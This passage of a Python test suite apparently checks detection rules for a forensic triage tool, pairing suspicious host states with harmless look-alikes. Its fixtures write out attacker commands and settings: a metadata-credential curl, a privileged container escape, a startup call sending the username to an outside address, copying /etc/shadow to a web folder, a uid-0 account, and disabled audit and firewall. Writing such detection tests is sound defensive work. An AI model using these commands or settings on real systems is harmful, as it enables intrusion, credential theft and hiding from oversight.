              {"path": "/usr/bin/mount", "mode": "4755"}, {"path": "/usr/bin/bash", "mode": "4755", "uid": 1000}),
    ),
    "pam-lets-in": (
        set_to("pam", ("auth", "sufficient pam_permit.so"), ("auth", "[success=done default=ignore] pam_succeed_if.so user = deploy")),
        set_to("pam", ("auth", "required pam_permit.so"), ("session", "sufficient pam_permit.so"), ("auth", "sufficient pam_rootok.so"),
               ("auth", "sufficient pam_succeed_if.so user ingroup nopasswdlogin"), ("auth", "[success=1 default=ignore] pam_unix.so nullok"),
               ("auth", "requisite pam_succeed_if.so uid >= 1000 quiet")),
    ),
    "sshd-weakened": (
        set_to("sshd", ("authorizedkeysfile", ".ssh/authorized_keys /etc/ssh/.k/%u")),
        set_to("sshd", ("authorizedkeysfile", ".ssh/authorized_keys .ssh/authorized_keys2"), ("authorizedkeysfile", "/etc/ssh/authorized_keys/%u"),
               ("authorizedkeysfile", "%h/.ssh/authorized_keys"), ("authorizedkeysfile", "/home/%u/.ssh/keys"), ("permitemptypasswords", "no"),
               ("loglevel", "VERBOSE")),
    ),
    "defence-masked": (
        {**unit("rsyslog.service", masked=True), **files({"path": "/usr/lib/systemd/system/rsyslog.service"})},
        # Its package was removed; not a defence; not masked.
        {"services": [{"unit": "auditd.service", "masked": True}, {"unit": "bluetooth.service", "masked": True}, {"unit": "rsyslog.service"}],
         **files({"path": "/usr/lib/systemd/system/rsyslog.service"}, {"path": "/usr/lib/systemd/system/bluetooth.service"})},
    ),
    "journal-keeps-nothing": (set_to("journald", ("Storage", "none")), set_to("journald", ("Storage", "persistent"), ("Compress", "none"))),
    "audit-switched-off": (set_to("audit", ("-e", "0")), set_to("audit", ("-e", "2"), ("-d", ""), ("-a", "never,task"))),
    "security-names-redirected": (
        set_to("hosts", ("0.0.0.0", "security.debian.org clamav.net")),
        set_to("hosts", ("127.0.0.1", "localhost web01"), ("10.0.0.5", "mirror.example.org"), ("203.0.113.5", "shop.example.org # github.com"),
               ("0.0.0.0", "ads.example.com")),
    ),
    "firewall-flushed": (
        FIREWALL,
        {**FIREWALL, "settings": FIREWALL["settings"] + set_to("firewall_live", ("rule", "tcp dport 22 accept"))["settings"]},
    ),
    "firewall-redirects-out": (
        set_to("firewall_live", ("rule", "tcp dport 443 dnat to 203.0.113.66"), path="live/commands/nft-ruleset.txt"),
        set_to("firewall_live", ("rule", "tcp dport 80 counter dnat to 172.17.0.2:80"), ("rule", "PREROUTING -j DNAT --to-destination 10.0.0.1"),
               ("rule", "ip daddr 203.0.113.66 accept")),
    ),
    "log-begins-late": (begins(NEWER), begins(NEW, {"path": "/var/log/btmp"})),
    "log-emptied": (
        emptied(),
        # Rotated, with what was in it beside it; never written; and one that nobody knows.
        emptied("/var/log/auth.log", NEW, {"path": "/var/log/auth.log.1", "btime": NEW}, {"path": "/var/log/btmp", "size": 0},
                {"path": "/var/log/nginx/access.log", "size": 0, "btime": NEW, "mtime": OLD}, {"path": "/var/log/x.log", "size": 0, "btime": OLD}),
    ),
    "defences-off-history": (
        typed("iptables -F"),
        {"history": [{**typed("")["history"][0], "line": number, "command": command} for number, command in enumerate((
            "iptables -L -n", "systemctl restart rsyslog", "systemctl status auditd", "ufw allow 22", "nft list ruleset", "git commit -m 'auditd'"))]},
    ),
    "cloud-credentials-taken": (
        typed("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web"),
        {**typed("curl -s http://169.254.169.254/latest/meta-data/instance-id"),
         **processes({"cmdline": ["kubectl", "--kubeconfig", "/etc/kubernetes/admin.conf"]})},
    ),
    "container-escape-typed": (
        typed("docker run -v /:/h --privileged alpine chroot /h"),
        {"history": [{**typed("")["history"][0], "line": number, "command": command} for number, command in enumerate((
            "docker run -v /srv:/srv nginx", "docker run -d -v /:/host:ro prom/node-exporter", "nsenter -t 4242 -n ss -ltn", "docker run --privileged x"))]},
    ),
    "container-runtime-open": (
        files({"path": "/run/docker.sock", "type": "socket", "mode": "0666"}),
        {**files({"path": "/run/docker.sock", "type": "socket", "mode": "0660"}, {"path": "/run/systemd/notify", "type": "socket", "mode": "0777"}),
         "sockets": [{"protocol": "tcp", "state": "listen", "local_port": 2375, "local_address": "127.0.0.1"},
                     {"protocol": "tcp", "state": "established", "local_port": 2375, "local_address": "192.0.2.1"}],
         "settings": [{"kind": "docker", "path": "/etc/docker/daemon.json", "name": name, "value": value} for name, value in (
             ("hosts.0", "tcp://0.0.0.0:2376"), ("tlsverify", "true"), ("hosts.1", "unix:///var/run/docker.sock"))]},
    ),
    "container-runtime-hidden": (
        set_to("docker", ("runtimes.x.path", "/var/lib/.s/runx")),
        set_to("docker", ("runtimes.nvidia.path", "nvidia-container-runtime"), ("data-root", "/srv/docker")),
    ),
    "kubelet-open": (
        set_to("kubelet", ("authentication.anonymous.enabled", "true")),
        set_to("kubelet", ("authentication.anonymous.enabled", "false"), ("authorization.mode", "Webhook"), ("authentication.webhook.enabled", "true")),
    ),
    "static-pod-owns-host": (
        set_to("pod", ("spec.hostPID", "true"), ("spec.volumes.0.hostPath.path", "/"), path="/etc/kubernetes/manifests/x.yaml"),
        {"settings": [
            *set_to("pod", ("spec.volumes.0.hostPath.path", "/etc/kubernetes/pki"), ("spec.hostNetwork", "true"), ("spec.containers.0.command.0", "etcd"),
                    path="/etc/kubernetes/manifests/etcd.yaml")["settings"],
            *set_to("pod", ("spec.volumes.0.hostPath.path", "/"), path="/etc/kubernetes/addons/x.yaml")["settings"]]},
    ),
    "tool-shadowed": (
        files({"path": "/usr/local/sbin/ps"}, {"path": "/usr/bin/ps"}, {"path": "/home/joe/.local/bin/sudo"}, {"path": "/usr/bin/sudo"}),
        files({"path": "/usr/local/bin/git"}, {"path": "/usr/bin/git"}, {"path": "/usr/local/bin/ss"}),
    ),
    "alternative-elsewhere": (
        files({"path": "/etc/alternatives/pager", "type": "link", "target": "/var/lib/.s/pager"}),
        files({"path": "/etc/alternatives/pager", "type": "link", "target": "/usr/bin/less"},
              {"path": "/etc/alternatives/java", "type": "link", "target": "/opt/jdk/bin/java"}),
    ),
    "program-on-connection": (connected("/var/lib/php/sessions/sess_q1 (deleted)", exe_deleted=True), connected("/usr/sbin/sshd")),
    "startup-calls-address": (
        starts({"mechanism": "shell_startup", "command": "curl -s http://203.0.113.66/$(whoami) >/dev/null"}),
        starts({"mechanism": "cron", "command": "curl -fsS http://192.168.1.5/ping"}, {"mechanism": "cron", "command": "wget -q https://example.org/1.2.3.4x"},
               {"mechanism": "cron", "command": "ping -c1 203.0.113.66"}, {"mechanism": "cron", "command": "curl http://203.0.113.66/", "package": "x"}),
    ),
    "command-wrapped": (
        starts({"mechanism": "shell_startup", "command": "alias sudo='/home/deploy/.local/share/sudo'"}),
        starts(*({"mechanism": "shell_startup", "command": command} for command in (
            "alias sudo='sudo '", "alias su='su -'", "alias ssh='TERM=xterm ssh'", 'ssh() { command ssh -o X=Y "$@"; }', "alias ll='/usr/bin/ls'"))),
    ),
    "python-start-runs-code": (
        starts({"mechanism": "python_startup", "command": "import os; os.system('id')"}),
        starts({"mechanism": "python_startup", "command": "import _virtualenv"},
               {"mechanism": "python_startup", "command": "import os, sys;exec('if os.environ.get(\"COV_CORE_SOURCE\"): pass')"},
               {"mechanism": "python_startup", "command": "import socket", "package": "x"}),
    ),
    "module-load-runs-program": (
        starts({"mechanism": "modprobe", "command": "/sbin/modprobe --ignore-install nfsd; /usr/local/bin/x"}),
        starts({"mechanism": "modprobe", "command": "/bin/true"}, {"mechanism": "modprobe", "command": "/sbin/modprobe -i x && /sbin/sysctl -p"}),
    ),
    "php-prepends-script": (
        starts({"mechanism": "web_config", "trigger": "PHP: auto_prepend_file", "command": "/usr/share/php/.p.php"}),
        starts({"mechanism": "web_config", "trigger": "PHP: auto_prepend_file", "command": "/var/www/html/wordfence-waf.php"},
               {"mechanism": "web_config", "trigger": "PHP: extension", "command": "x.so"}),
    ),
    "git-runs-odd-program": (
        starts({"mechanism": "git", "executable": "/var/lib/.s/ssh"}),
        starts({"mechanism": "git", "executable": "/srv/repo/.git/hooks/pre-push"}, {"mechanism": "git", "executable": "/srv/repo/.husky/pre-commit"},
               {"mechanism": "git", "executable": "/usr/bin/less"}),
    ),
    "library-path-hidden": (
        starts({"mechanism": "environment", "command": "LD_LIBRARY_PATH=/var/lib/.s"}, {"mechanism": "ld_conf", "command": "/var/lib/.x"},
               {"mechanism": "environment", "command": "BASH_ENV=/usr/share/misc/.env"}),
        starts({"mechanism": "systemd_service", "command": "LD_LIBRARY_PATH=/opt/app/lib"},
               {"mechanism": "environment", "command": "PATH=/usr/bin:/root/.cargo/bin"},
               {"mechanism": "cron", "command": "PATH=/usr/local/sbin:/usr/bin"}, {"mechanism": "ld_conf", "command": "/usr/local/lib"}),
    ),
    "package-script-altered": (
        {"persistence_files": [{"path": "/var/lib/dpkg/info/x.postinst", "deviation": "younger", "mtime": NEW, "ctime": NEWER},
                               {"path": "/var/lib/dpkg/info/y.postinst", "deviation": "orphan", "mtime": OLD, "ctime": NEWER}]},
        {"persistence_files": [{"path": "/var/lib/dpkg/info/x.postinst", "deviation": "reaches_out"}, {"path": "/etc/crontab"}]},
    ),
    "package-of-scripts-alone": (
        {"persistence_files": [{"path": "/var/lib/dpkg/info/x.postinst", "deviation": "nothing_else", "ctime": NEWER}]},
        {"persistence_files": [{"path": "/var/lib/dpkg/info/x.postinst", "deviation": "reaches_out"}, {"path": "/etc/crontab"}]},
    ),
    "doas-without-password": (
        set_to("doas", ("permit", "nopass setenv { A=b } www-data"), ("permit", "nopass :wheel as root"), path="/etc/doas.conf"),
        set_to("doas", ("permit", "persist :wheel"), ("permit", "nopass joe cmd reboot"), ("deny", "nopass joe"), ("permit", "nopass joe as backup"),
               path="/etc/doas.conf"),
    ),
    "binfmt-odd-interpreter": (
        {"kernel_settings": [
            {"path": "/proc/sys/fs/binfmt_misc/x", "value": "enabled\\x0ainterpreter /opt/x\\x0aflags: OC\\x0aoffset 0\\x0amagic 7f454c46"},
            {"path": "/proc/sys/fs/binfmt_misc/y", "value": "enabled\\x0ainterpreter /dev/shm/y\\x0aflags: \\x0aextension .sh"}]},
        {"kernel_settings": [
            {"path": "/proc/sys/fs/binfmt_misc/qemu-arm", "value": "enabled\\x0ainterpreter /usr/bin/qemu-arm-static\\x0aflags: OCF\\x0aoffset 0"},
            {"path": "/proc/sys/fs/binfmt_misc/python3.11", "value": "enabled\\x0ainterpreter /usr/bin/python3.11\\x0aflags: \\x0aoffset 0"},
            {"path": "/proc/sys/fs/binfmt_misc/status", "value": "enabled"}]},
    ),
    "container-owns-host": (
        set_to("container", ("Privileged", "true"), ("PidMode", "host"), ("Binds.0", "/:/host"), path="/var/lib/docker/containers/0a/hostconfig.json"),
        set_to("container", ("Privileged", "false"), ("PidMode", "host"), ("Binds.0", "/:/rootfs:ro,rslave"), ("Binds.1", "/var/lib/x:/x"),
               ("Binds.2", "/etc/localtime:/etc/localtime"), path="/var/lib/docker/containers/0b/hostconfig.json"),
    ),
    "certificate-authority-added": (
        {"certificates": [{"path": "/etc/ssl/certs/ca-certificates.crt", "line": 9, "certificate": "a", "subject": "CN=x", "authority": True, "bundle": True},
                          {"path": "/usr/local/share/ca-certificates/x.crt", "line": 1, "certificate": "a", "authority": True},
                          {"path": "/etc/ssl/certs/X.pem", "name": "/etc/ssl/certs/5e6f7a8b.0", "line": 1, "certificate": "d"}]},
        {"certificates": [{"path": "/etc/ssl/certs/ssl-cert-snakeoil.pem", "name": "/etc/ssl/certs/5e6f7a8b.0", "line": 1,
                           "certificate": "b", "authority": False},
                          {"path": "/etc/pki/tls/certs/localhost.crt", "line": 1, "certificate": "c", "authority": True}]},
    ),
    "user-lingers": (
        {**starts({"mechanism": "linger", "path": "/var/lib/systemd/linger/u", "user": "u"},
                  {"mechanism": "systemd_service", "path": "/home/u/.config/systemd/user/x.service", "command": "/home/u/x"}), **user(home="/home/u")},
        starts({"mechanism": "systemd_service", "path": "/home/u/.config/systemd/user/x.service", "command": "/home/u/x"}),
    ),
    "rc-local-runs": (
        starts({"mechanism": "rc_local", "path": "/etc/rc.local", "line": 2, "command": "/opt/x &", "executable": "/opt/x"}),
        starts({"mechanism": "rc_local", "path": "/etc/rc.d/rc.local", "line": 13, "command": "touch /var/lock/subsys/local"},
               {"mechanism": "rc_local", "path": "/etc/rc.local", "line": None, "command": "/etc/rc.local"}),
    ),
    "polkit-says-yes": (
        {"settings": [{"kind": "polkit", "path": "/etc/polkit-1/rules.d/x.rules", "line": line, "section": "actions: " + what, "name": "users: " + who,
                       "value": value} for line, what, who, value in (
            (1, "any", "any", "return polkit.Result.YES;"), (2, "any", "some", "if (subject.user == 'joe') return polkit.Result.YES;"),
            (3, "some", "any", "if (action.id == 'org.freedesktop.policykit.exec') return polkit.Result.YES;"))]},
        {"settings": [{"kind": "polkit", "path": path, "line": 1, "section": "actions: " + what, "name": "users: " + who, "value": value}
                      for path, what, who, value in (
            ("/etc/polkit-1/rules.d/x.rules", "some", "some", "if (action.id == 'a' && subject.active) return polkit.Result.YES;"),
            ("/etc/polkit-1/x.pkla", "some", "any", "unix-user:*; org.freedesktop.color-manager.create-device; ResultAny=yes"),
            ("/usr/share/polkit-1/rules.d/p.rules", "any", "any", "return polkit.Result.YES;"))],
         **starts({"mechanism": "polkit", "path": "/usr/share/polkit-1/rules.d/p.rules", "package": "p"})},
    ),
    "title-of-another-program": (
        processes(*({"pid": 40 + number, "exe": exe, "cmdline": [title]} for number, (exe, title) in enumerate((
            ("/usr/bin/bash", "php-fpm: pool www"), ("/usr/bin/dash", "[kworker/0:1]"), ("/usr/bin/bash", "nginx: worker process /bin/sh"),
            ("/tmp/x (deleted)", "sshd: root@pts/0"), ("/usr/bin/perl", "postgres: checkpointer"), ("/opt/a/b", "(sd-pam)"), ("/opt/a/b", "crond"),
            ("/usr/bin/python3.11", "systemd-journald"))))),
        processes(*({"pid": 40 + number, "exe": exe, "cmdline": [title]} for number, (exe, title) in enumerate((
            ("/usr/sbin/php-fpm8.2", "php-fpm: pool www"), ("/usr/sbin/nginx (deleted)", "nginx: worker process"), ("/usr/bin/bash", "-bash"),
            ("/usr/bin/dash", "/bin/sh"), ("/usr/bin/dash", "-su"), ("/usr/bin/busybox", "httpd"),
            ("/usr/bin/dbus-daemon", "dbus-daemon"), ("/usr/lib/systemd/systemd", "(sd-pam)"),
            ("/usr/lib/systemd/systemd-executor", "(sd-pam)"), ("/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: walwriter"),
            ("/usr/lib/openssh/sshd-session", "sshd-session: u [priv]"), ("/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]"),
            ("/usr/bin/perl", "spamd child"), ("/usr/lib/systemd/systemd", "/sbin/init"), (None, "sshd: x"), ("/usr/bin/bash", "/bin/bash"))))),
    ),
    "package-source-untrusted": (
        set_to("apt_source", ("deb", "[trusted=yes] http://203.0.113.66/debian ./")),
        set_to("apt_source", ("deb", "http://mirror.example.org/debian bookworm main"), ("deb", "[trusted=yes] file:/srv/repo ./"),
               ("deb", "[signed-by=/usr/share/keyrings/x.gpg] https://192.168.1.5/debian stable main")),
    ),
    "mount-covers-folder": (
        {"mounts": [{"pid": 1, "path": "/var/spool/cron", "fstype": "ext4", "root": "/root/m", "source": "/dev/vda"}]},
        {"mounts": [{"pid": 1, "path": "/var/log", "fstype": "ext4"}, {"pid": 1, "path": "/usr", "fstype": "ext4"},
                    {"pid": 1, "path": "/etc/hosts", "fstype": "ext4"},
                    {"pid": 77, "path": "/etc/ssh", "fstype": "overlay"}]},
    ),
    "sshd-of-own-settings": (
        processes({"cmdline": ["sshd: /usr/sbin/sshd -f /var/lib/private/.c [listener] 0 of 10-100 startups"]}),
        processes({"cmdline": ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"]},
                  {"cmdline": ["/usr/sbin/sshd", "-D", "-f", "/etc/ssh/sshd_config"]}),
    ),
    "tool-of-intruders": (
        files({"path": "/opt/.cache/pspy64"}), {**files({"path": "/usr/bin/lsblk"}, {"path": "/srv/lse.txt"}), **typed("man linpeasant")},
    ),
    "root-account-typed": (typed("useradd -o -u 0 -g 0 svc"), typed("useradd -u 1000 -g 100 bob; passwd -l bob")),
    "startup-reads-secrets": (
        starts({"mechanism": "systemd_service", "command": "/bin/cp /etc/shadow /var/www/html/.s"}),
        starts({"mechanism": "cron", "command": "tar czf /srv/etc.tgz /etc"}, {"mechanism": "cron", "command": "rsync -e 'ssh -i /root/.ssh/id_backup' a b:"},
               {"mechanism": "cron", "command": "cp /etc/shadow /var/backups/shadow.bak", "package": "passwd"}),
    ),
    "system-file-open": (
        files({"path": "/etc/cron.d", "type": "directory", "mode": "0757"}, {"path": "/etc/shadow", "mode": "0660"}),
        files({"path": "/etc/cron.d", "type": "directory", "mode": "0755"}, {"path": "/etc/shadow", "mode": "0640"}, {"path": "/etc/gshadow", "mode": "0000"},
              {"path": "/var/spool/cron/crontabs", "type": "directory", "mode": "1730"}, {"path": "/etc/passwd", "mode": "0644"},
              {"path": "/etc/systemd/system/x.service", "type": "link", "mode": "0777"}, {"path": "/etc/x/cache", "mode": "0666"}),
    ),
    **{f"rare-{kind.replace('_', '-')}": (rare(kind, 1), {"stack": rare(kind, 2)["stack"] + rare(kind, 1, 2)["stack"]}) for kind in (
        "authorized_key", "user", "suid", "sudo", "kernel_module", "cron", "unit", "persistence", "executable", "listener", "package_file")},
}


TABLES = {"findings", *(table for both in CASES.values() for tables in both for table in tables)}


@pytest.fixture(scope="module")
def rules():
    return {rule.id: rule for rule in read_rules([RULES])}


@pytest.fixture(scope="module")
def case(tmp_path_factory):
    with open_case(tmp_path_factory.mktemp("case")) as opened_case:
        yield opened_case


def test_every_rule_is_tested(rules):
    assert set(rules) == set(CASES)


@pytest.mark.parametrize("name", CASES)
def test_rule(name, rules, case):
    found, harmless = CASES[name]
    for table in TABLES:
        case.connection.execute(f"DELETE FROM {table}")
    add_rows(case, "bad", found)
    add_rows(case, "good", harmless)
    run_rule(case, rules[name])
    findings = case.rows("SELECT * FROM findings")
    assert {row["host"] for row in findings} == {"bad"}
    for row in findings:
        assert row["summary"] and row["subject"]
        assert all(one.get("table") or one.get("member") for one in json.loads(row["evidence"]))
        assert json.loads(row["evidence"])


@pytest.mark.parametrize("name", [
    "/var/lib/...", "/dev/shm/a\\x0ab", "/etc/ssl/\u00a0", "/opt/\\xe2\\x80\\xaetxt.exe", "/usr/lib/\\xff\\xfe", "/usr/share/man/.. ",
])
def test_names_that_are_made_to_be_overlooked(name, rules, case):
    for table in TABLES:
        case.connection.execute(f"DELETE FROM {table}")
    add_rows(case, "bad", files({"path": name}))
    run_rule(case, rules["odd-file-name"])
    assert case.rows("SELECT subject FROM findings") == [{"subject": name}]


@pytest.mark.parametrize("command", [
    '/bin/bash -c "$(echo Y3VybA== | base64 -d)" \\x0d#', "eval `echo aWQ= | base64 --decode`", "echo aWQ= | base64 -d | sh",
])
def test_commands_that_unpack_themselves(command, case):
    assert case.connection.execute("SELECT is_evil_command(?)", [command]).fetchone() == (True,)


@pytest.mark.parametrize("path", ["/var/lib/docker/overlay2/a1/diff/tmp/su", "/var/lib/docker/overlay2/a1/diff/usr/bin/rootsh", "/usr/local/bin/su"])
def test_programs_with_rights_that_no_image_has(path, case):
    assert case.connection.execute("SELECT is_suid_of_image(?)", [path]).fetchone() == (False,)


def test_a_record_of_logins_that_was_rotated_need_not_have_the_start(rules, case):
    for table in TABLES:
        case.connection.execute(f"DELETE FROM {table}")
    found, _harmless = CASES["login-record-without-start"]
    add_rows(case, "good", {**found, **files({"path": "/var/log/wtmp.1"})})
    run_rule(case, rules["login-record-without-start"])
    assert case.rows("SELECT * FROM findings") == []


@pytest.mark.parametrize("tables", [
    begins(NEWER, {"path": "/var/log/auth.log.1"}), begins(NEWER, {"path": "/var/log/auth.log-20261122.gz"}),
    begins("2026-11-20T11:00:00", derived="zone Europe/Berlin"),
    {**begins(NEWER), **files({"path": "/var/log/auth.log", "btime": NEWER})},
    {**begins(NEWER), "log_files": [{"path": "/var/log/auth.log", "state": "truncated"}]},
], ids=["rotated", "rotated by date", "clock was set", "made then", "cut by the triage"])
def test_a_log_that_begins_late_for_another_reason(tables, rules, case):
    for table in TABLES:
        case.connection.execute(f"DELETE FROM {table}")
    add_rows(case, "good", tables)
    run_rule(case, rules["log-begins-late"])
    assert case.rows("SELECT * FROM findings") == []


def test_a_timer_with_several_times_is_one_finding_that_names_the_program(rules, case):
    for table in TABLES:
        case.connection.execute(f"DELETE FROM {table}")
    timer = {"mechanism": "systemd_timer", "path": "/etc/systemd/system/x.timer", "command": "x.service", "executable": "/usr/local/lib/.x"}
    add_rows(case, "bad", starts({**timer, "line": 4}, {**timer, "line": 5}, {**timer, "mechanism": "cron", "path": "/etc/cron.d/x", "line": 1},
                                 {**timer, "mechanism": "cron", "path": "/etc/cron.d/x", "line": 2}))
    run_rule(case, rules["persistence-in-drop-zone"])
    found = case.rows("SELECT subject, summary FROM findings ORDER BY subject")
    assert [row["subject"] for row in found] == ["cron /etc/cron.d/x line 1", "cron /etc/cron.d/x line 2", "systemd_timer /etc/systemd/system/x.timer line 4"]
    assert found[-1]["summary"].endswith("x.service, which starts /usr/local/lib/.x")


def test_each_script_that_looks_like_a_web_shell_is_told_of_by_itself(rules, case):
    for table in TABLES:
        case.connection.execute(f"DELETE FROM {table}")
    add_rows(case, "bad", {"log_events": [
        event("web_suspect_script", '"POST /upload.php HTTP/1.1" 200 5'), event("web_suspect_script", '"POST /x/shell.php?a=1 HTTP/1.1" 200 5')]})
    run_rule(case, rules["webshell-requested"])
    assert {row["subject"] for row in case.rows("SELECT subject FROM findings")} == {"198.51.100.7 /upload.php", "198.51.100.7 /x/shell.php"}
